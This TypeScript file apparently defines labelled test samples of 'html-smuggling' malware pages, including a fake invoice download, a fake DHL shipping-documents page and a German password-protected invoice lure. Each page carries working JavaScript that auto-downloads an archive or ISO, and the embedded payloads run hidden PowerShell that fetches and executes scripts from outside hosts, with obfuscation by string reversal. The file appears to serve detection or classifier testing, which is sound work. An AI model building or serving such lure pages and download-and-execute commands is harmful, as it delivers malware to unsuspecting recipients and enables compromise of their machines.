import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { zip, pe, iso, lnk, jsRoute } from '../parts/e-bin.js';

const invoiceZip = zip([{ name: 'Invoice_4471_Oct2025.js', data: "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c \"iwr https://files-invoicing-portal.com/p/st.ps1 -UseBasicParsing|iex\"',0);" }]);
const dhlIso = iso('DHL_AWB', ['DHL_AWB_7730112.lnk', 'data.dll']);
const protectedZip = zip([
  { name: 'Rechnung_2025-11-0412.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -w h -c "iwr https://rechnung-portal-download.de/r/a.ps1|iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
], { encrypted: true });

export const entries: Entry[] = [
{
  id: 'r-smuggle-zip-js-invoice-blob',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://files-invoicing-portal.com/download/inv4471.html',
  body: doc({ title: 'Downloading Invoice_4471...', css: `body{font-family:Segoe UI,Arial,sans-serif;background:#f5f7fa;text-align:center;padding-top:12vh}.c{display:inline-block;background:#fff;padding:30px 50px;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.12)}` },
`<div class="c"><img src="/download/pdf.png" width="48" height="48" alt=""><h2>Your document is downloading…</h2><p>Invoice_4471_Oct2025.zip (1 file)</p><p style="font-size:13px;color:#777">If the download does not start automatically, <a href="#" id="again">click here</a>.</p></div>
<script>
function b(s){var r=atob(s),u=new Uint8Array(r.length);for(var i=0;i<r.length;i++)u[i]=r.charCodeAt(i);return u;}
function go(){var blob=new Blob([b('${b64(invoiceZip)}')],{type:'application/octet-stream'});
var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='Invoice_4471_Oct2025.zip';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href);a.remove();},2000);}
setTimeout(go,1200);document.getElementById('again').onclick=function(e){e.preventDefault();go();};
</script>`),
  routes: { 'files-invoicing-portal.com/download/pdf.png': imgRoute(220, 40, 40) },
},
{
  id: 'r-smuggle-iso-dataurl-dhl',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://dhl-express-docs.net/awb/7730112/',
  body: doc({ title: 'DHL Express - Shipping Documents', css: `body{margin:0;font-family:Arial,sans-serif}.h{background:#ffcc00;padding:14px 40px;color:#d40511;font:italic 900 26px Arial}.c{max-width:560px;margin:40px auto}` },
`<div class="h">DHL EXPRESS</div><div class="c"><h2>Shipment documents AWB 7730112</h2><p>Your shipment is on hold. Please open the attached airway bill and commercial invoice, sign, and return to release the goods from customs.</p><p id="st">Preparing download…</p></div>
<script>
var p='${b64(dhlIso)}';
var a=document.createElement('a');a.href='data:application/x-iso9660-image;base64,'+p;a.download='DHL_AWB_7730112.iso';document.body.appendChild(a);
setTimeout(function(){a.click();document.getElementById('st').textContent='Download started: DHL_AWB_7730112.iso — open the file and double-click the document to view.';},800);
</script>`),
},
{
  id: 'r-smuggle-encrypted-zip-lnk-rechnung-de',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://rechnung-portal-download.de/beleg/2025-11-0412.html',
  body: doc({ lang: 'de', title: 'Ihre Rechnung 2025-11-0412', css: `body{font-family:Arial,sans-serif;background:#eef0f3;padding-top:60px}.b{max-width:500px;margin:auto;background:#fff;padding:30px;border-radius:6px}.pw{font:700 22px monospace;background:#fff7d1;padding:8px 14px;display:inline-block}` },
`<div class="b"><h2>Ihre Rechnung steht zum Download bereit</h2><p>Sehr geehrte Kundin, sehr geehrter Kunde,<br>aus Datenschutzgründen ist das Dokument passwortgeschützt.</p>
<p>Passwort zum Öffnen: <span class="pw">RE2025</span></p><p id="m">Der Download startet automatisch…</p>
<p style="font-size:11px;color:#888">Buchhaltung · Müller &amp; Partner Steuerberatung · Königstraße 14 · 70173 Stuttgart</p></div>
<script>
(function(){var s='${b64(protectedZip).split('').reverse().join('')}';s=s.split('').reverse().join('');
var raw=window['at'+'ob'](s),buf=new Uint8Array(raw.length);for(var i=0;i<raw.length;i++)buf[i]=raw.charCodeAt(i);
var bl=new Blob([buf],{type:'application/zip'}),n='Rechnung_2025-11-0412.zip';
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(bl,n);return;}
var a=document.createElement('a');a.href=window.URL.createObjectURL(bl);a.download=n;document.body.appendChild(a);a.click();
document.getElementById('m').textContent='Falls der Download nicht startet, laden Sie die Seite neu.';})();
</script>`),
},
];
